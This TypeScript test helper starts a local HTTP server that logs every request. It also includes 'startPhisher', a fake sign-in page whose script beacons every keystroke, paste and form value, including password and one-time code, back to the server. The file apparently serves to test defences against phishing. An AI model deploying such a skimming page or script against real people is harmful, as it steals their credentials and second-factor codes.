import { randomUUID } from 'node:crypto'
import { once } from 'node:events'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

/** A small site for a test: its pages by path, and all that it was sent. */
export type TestSite = Readonly<{
  url: string
  /** Bodies, and addresses with their queries, as they arrived. */
  received: string[]
  close(): Promise<void>
}>

/** What a page is made from. */
export type Asked = Readonly<{
  path: string
  query: URLSearchParams
  form: URLSearchParams
  /** The same for all requests of one browser context. */
  visitor: string
  url: string
}>
/** A page's markup, or where to go instead. */
export type Answered = string | Readonly<{ goTo: string }>

/** Serves what `answer` says, on a port of the kernel's choice. */
export async function startTestSite(answer: (asked: Asked) => Answered | Promise<Answered>): Promise<TestSite> {
  const received: string[] = []
  const server = createServer((request, response) => void respond(request, response))
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  // Browsers keep cookies by host, not by port; and in frames of other sites these alone.
  const cookie = `visitor${new URL(url).port}`

  async function respond(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const chunks: Buffer[] = []
    for await (const chunk of request as AsyncIterable<Buffer>) chunks.push(chunk)
    const body = Buffer.concat(chunks).toString('utf8')
    received.push(request.url ?? '', body)
    const visitor = new RegExp(`${cookie}=([^;]+)`).exec(request.headers.cookie ?? '')?.[1] ?? randomUUID()
    response.setHeader('set-cookie', `${cookie}=${visitor}; Path=/; SameSite=None; Secure; Partitioned`)
    const { pathname: path, searchParams: query } = new URL(request.url ?? '/', url)
    const answered = await answer({ path, query, form: new URLSearchParams(body), visitor, url })
    if (typeof answered === 'string')
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(answered)
    else response.writeHead(303, { location: answered.goTo }).end()
  }

  return {
    url,
    received,
    close: async () => {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
}

/** A copy of a sign-in page that tells its owner of every key, every change and every form. */
export const startPhisher = (): Promise<TestSite> =>
  startTestSite(({ path }) =>
    path === '/heard'
      ? ''
      : `<!doctype html><title>Sign in</title><h1>Sign in</h1>
<form method="post" action="/taken">
<label>E-mail address <input name="email" type="email" autocomplete="username"></label>
<label>Password <input name="password" type="password" autocomplete="current-password"></label>
<label>Six-digit code <input name="code" autocomplete="one-time-code"></label>
<button>Sign in</button></form>
<script>
addEventListener('focus', () => document.querySelector('[type=password]').focus())
for (const type of ['keydown', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'submit'])
  addEventListener(type, (event) => navigator.sendBeacon('/heard', type + '=' + event.key + '=' + event.target.value), true)
</script>`,
  )
